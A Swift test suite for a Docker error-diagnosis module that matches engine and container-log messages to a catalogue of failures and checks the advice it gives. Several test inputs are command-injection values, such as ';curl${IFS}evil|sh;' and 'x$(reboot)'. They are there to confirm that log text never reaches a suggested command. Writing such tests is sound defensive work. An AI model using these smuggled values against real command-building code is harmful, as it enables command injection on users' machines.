import Testing

@testable import DockerBackends

@Suite("Error texts are judged")
struct JudgeTests {
  @Test("A row's text gives that row first, and no row but those with the same text", arguments: FailureFixtures.all)
  func ownText(fixture: FailureFixtures.Text) {
    for stage in [nil, fixture.stage] {
      let ids = Judge.findings(in: fixture.text, at: stage).map(\.id)
      #expect(ids.first == fixture.id)
      #expect(Set(ids).isSubset(of: [fixture.id] + fixture.twins))
    }
  }

  @Test(
    "Of what only the kind is known is guessed at where a user asks, and never in a log",
    arguments: FailureFixtures.guesses)
  func guesses(id: String, text: String) {
    let first = Judge.findings(inPaste: text).first
    #expect(first?.id == id)
    #expect(first?.certainty == .guess)
    #expect(Judge.findings(in: text).isEmpty)
  }

  @Test(
    "An engine's message gives its row through what clients and logs put round it",
    arguments: [
      ("Error response from daemon: ", ""), ("docker: Error response from daemon: ", ".\nSee 'docker run --help'."),
      ("docker: Error response from daemon: ", "\n\nRun 'docker run --help' for more information"),
      ("ERROR: for kani-hf  Cannot start service kani-hf: ", ""), ("Error: ", ""),
      (
        "time=\"2026-11-23T01:00:00Z\" level=error msg=\"Handler for POST /v1.43/containers/a/start returned error: ",
        "\""
      ),
    ])
  func clients(before: String, after: String) {
    for (id, message) in [
      ("G1", #"could not select device driver "" with capabilities: [[gpu]]"#),
      ("G1", "failed to discover GPU vendor from CDI: no known GPU vendor found"),
      ("G24", "unknown or invalid runtime name: nvidia"), ("P6", "unexpected EOF"),
      ("D6", "Bind for 0.0.0.0:7860 failed: port is already allocated"),
      ("D12", "image with reference x:1 was found but does not match the specified platform: wanted linux/arm64"),
    ] {
      let said = before.hasSuffix("error: ") && after == "\"" ? message.replacing("\"", with: "\\\"") : message
      #expect(Judge.findings(in: before + said + after).first?.id == id, "\(before)\(said)\(after)")
    }
  }

  @Test("Every row is there once, complete, and is shown by a text or by facts")
  func catalogue() {
    let rows = FailureCatalogue.rows
    let ids = rows.map(\.id)
    #expect(rows.count >= 200)
    #expect(Set(ids).count == rows.count)
    #expect(ids.allSatisfy { $0.first?.isUppercase == true && Int($0.dropFirst()) != nil })
    for row in rows {
      #expect(!row.title.isEmpty && !row.cause.isEmpty && !row.confirm.isEmpty && !row.fix.isEmpty, "\(row.id)")
      #expect(!row.stages.isEmpty, "\(row.id)")
    }
    // Only what a proxy of this very program says has been met nowhere else.
    #expect(Set(ids).subtracting(FailureCatalogue.links.keys) == ["A3"])
    #expect(FailureCatalogue.links.values.allSatisfy { $0.hasPrefix("https://") && !$0.contains(" ") })
    let shown = Set(FailureFixtures.all.map(\.id) + FactFixtures.all.map(\.id) + FailureFixtures.guesses.map(\.id))
    #expect(Set(ids).subtracting(shown).isEmpty)
  }

  @Test("Every symptom can be looked for in a long text by letters that it spells out")
  func symptomsAreIndexed() {
    for row in FailureCatalogue.rows {
      for symptom in row.symptoms {
        let pattern = symptom.pattern
        let spelled = PatternLine(String(decoding: pattern.needle, as: UTF8.self))
        let index = symptom.strength == .vague ? SymptomMatches.vague : SymptomMatches.index
        let found = index.candidates(in: spelled).map(\.symptom.pattern.source)
        #expect(found.contains(pattern.source), "\(row.id): \(pattern.source)")
      }
    }
  }

  @Test("Captured words stand in cause and fix, and nothing stays in braces")
  func words() throws {
    for fixture in FailureFixtures.all {
      for finding in Judge.findings(in: fixture.text) {
        for text in [finding.cause, finding.confirm.description] {
          #expect(text.firstRange(ofText: "{address}") == nil && text.firstRange(ofText: "{cuda}") == nil)
        }
      }
    }
    let old = try #require(
      Judge.findings(in: "The NVIDIA driver on your system is too old (found version 12040).").first)
    #expect(old.cause.contains("CUDA 12.4"))
  }

  @Test(
    "What a log says gets into no command as more than a word",
    arguments: [
      (
        "x: ';curl${IFS}evil|sh;': cannot open shared object file: No such file or directory", "L1",
        "docker run --rm --entrypoint sh IMAGE -c 'ldconfig -p | grep library'"
      ),
      (
        "x: -rf: cannot open shared object file: No such file or directory", "L1",
        "docker run --rm --entrypoint sh IMAGE -c 'ldconfig -p | grep library'"
      ),
      (
        "x: libfoo++-1.2.so: cannot open shared object file: No such file or directory", "L1",
        "docker run --rm --entrypoint sh IMAGE -c 'ldconfig -p | grep libfoo++-1.2.so'"
      ),
      (
        "ImportError: Parler requires the x;reboot library but it was not found in your environment.", "Y22",
        "or add to the Dockerfile, last: RUN pip install PACKAGE"
      ),
      (
        #"Conflict. The container name "/x$(reboot)" is already in use by container "5b0f"."#, "D5",
        "docker ps -a --filter name=CONTAINER --format '{{.Names}} {{.Status}} {{.Labels}}'"
      ),
      (
        "dial tcp: lookup x|reboot.example on 127.0.0.53:53: no such host", "P8",
        "cat /etc/resolv.conf; getent hosts REGISTRY  # prints an address if the name can be resolved"
      ),
    ])
  func pasted(text: String, id: String, command: String) throws {
    let finding = try #require(Judge.findings(in: text).first { $0.id == id })
    let advice = "\(finding.confirm)\n\(finding.fix)"
    #expect(advice.split(separator: "\n").contains { $0 == command }, "\(advice)")
    #expect(!advice.contains("evil") && !advice.contains("reboot"), "\(advice)")
  }

  @Test("Title and cause tell what the log says as it says it")
  func told() throws {
    let text = "x: ';curl${IFS}evil|sh;': cannot open shared object file: No such file or directory"
    #expect(Judge.findings(in: text).first?.title == "The image lacks the library ';curl${IFS}evil|sh;'")
  }

  @Test("Healthy output gives no finding", arguments: HealthyOutput.samples)
  func healthy(text: String) {
    #expect(Judge.findings(in: text).map(\.id) == [])
  }

  @Test(
    "Texts that only resemble a row's give none",
    arguments: [
      "Error response from daemon: failed to set up container networking: Address already in use",
      "./run.sh: not found", "bin/start: not found", "WebSocket closed: unauthorized",
      "INFO: tokenizer falling back to CPU implementation", "Model weights are on CPU, not available on disk",
      #"INFO:     127.0.0.1:50000 - "POST /synthesize HTTP/1.1" 429 Too Many Requests"#,
      #"INFO:     10.0.0.2:4711 - "GET /v1/models HTTP/1.1" 401 Unauthorized"#,
      "manifest.json not found, using defaults", "the container name is kani, already in use since Monday",
      "ValueError: voices must be a list", "config: speakers must be a mapping", "INFO: click the gear for Settings",
      "./run.sh: line 3: voices: unbound variable",
    ])
  func lookalikes(text: String) {
    #expect(Judge.findings(in: text).map(\.id) == [])
  }

  @Test("Thousands of lines of healthy servers give no finding", arguments: HealthyOutput.Server.all)
  func healthyLogs(server: HealthyOutput.Server) {
    let lines = server.log(lines: 1000)
    #expect(lines.count == 1000)
    let findings = Judge.findings(in: lines.joined(separator: "\n"), at: nil)
    #expect(findings.map { "\($0.id): \($0.evidence ?? "")" } == [])
  }

  @Test("The generated logs are of twenty kinds, 20,000 lines and the same each time")
  func generator() {
    #expect(Set(HealthyOutput.Server.all.map(\.testDescription)).count >= 20)
    #expect(HealthyOutput.Server.all.count * 1000 >= 20_000)
    #expect(HealthyOutput.Server.uvicorn.log(lines: 50) == HealthyOutput.Server.uvicorn.log(lines: 50))
  }

  @Test("An error among healthy lines is found", arguments: FailureFixtures.logTexts)
  func needle(fixture: FailureFixtures.Text) {
    // Beside Gradio's own lines a refused connection is the Space's.
    let server: HealthyOutput.Server = ["A14", "A15"].contains(fixture.id) ? .uvicorn : .gradio
    let log = server.log(lines: 20) + [fixture.text] + HealthyOutput.Server.uvicorn.log(lines: 20)
    #expect(Judge.findings(in: log.joined(separator: "\n"), at: fixture.stage).first?.id == fixture.id)
  }

  @Test("Engine texts are not looked for in a container's log, nor the other way round")
  func stages() {
    #expect(Judge.findings(in: "unexpected EOF", at: .log).isEmpty)
    #expect(Judge.findings(in: "CUDA out of memory", at: .pull).map(\.id) == ["G35"])
    #expect(Judge.findings(in: "MetadataIncompleteBuffer", at: .start).isEmpty)
    let yaml = "error: yaml: line 3: mapping values are not allowed in this context"
    #expect(Judge.findings(in: yaml, at: .preflight).map(\.id) == ["W14"])
    #expect(Judge.findings(in: yaml, at: .log).map(\.id) == ["S11"])
  }

  @Test("Colours, prefixes of Compose and the class alone are seen through")
  func prefixes() {
    #expect(Judge.findings(in: "\u{1B}[36mhf-1  |\u{1B}[0m unexpected EOF").map(\.id) == ["P6"])
    #expect(
      Judge.findings(in: "requirement error: unsatisfied condition: cuda>=12.8, please update your driver").map(\.id)
        == ["G13"])
  }

  @Test("Evidence holds no secrets")
  func secrets() throws {
    let finding = try #require(
      Judge.findings(in: "HF_TOKEN=hf_abcdefghijklmnopqrstuvwxyz CUDA out of memory").first)
    #expect(finding.evidence == "HF_TOKEN=[hidden] CUDA out of memory")
  }

  @Test("Text that would make matching slow is given up")
  func hostile() {
    let line = String(repeating: "error running hook lib.so. no such file _PORT_ could not select device ", count: 60)
    #expect(Judge.findings(in: line).isEmpty)
    #expect(Judge.findings(in: String(repeating: "[", count: 100_000)).isEmpty)
    #expect(Judge.findings(in: String(decoding: [0xFF, 0xFE, 0x00, 0x1B, 0x5B], as: UTF8.self)).isEmpty)
  }
}
